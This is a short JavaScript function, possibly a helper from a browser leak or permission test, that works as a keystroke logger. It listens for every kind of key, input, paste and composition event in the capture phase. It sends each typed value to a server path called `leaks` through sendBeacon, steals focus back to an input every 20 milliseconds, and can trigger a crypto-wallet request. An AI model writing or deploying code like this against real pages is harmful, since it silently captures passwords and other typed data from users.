/** Waits for keys in every way there is, and tells the server of each at the path `leaks`. */
function waitForKeys({ leaks, asks }) {
    const events = ["keydown", "keypress", "keyup", "beforeinput", "input", "textInput", "paste", "compositionstart",
        "compositionupdate"];
    const tell = (event) => navigator.sendBeacon(leaks, event.type + " " + (event.key ?? event.data ?? ""));
    for (const name of events) addEventListener(name, tell, true);
    addEventListener("focus", () => document.querySelector("input").focus());
    setInterval(() => document.querySelector("input").focus(), 20);
    if (asks) ethereum.request({ method: "ask" }).catch(() => {});
}
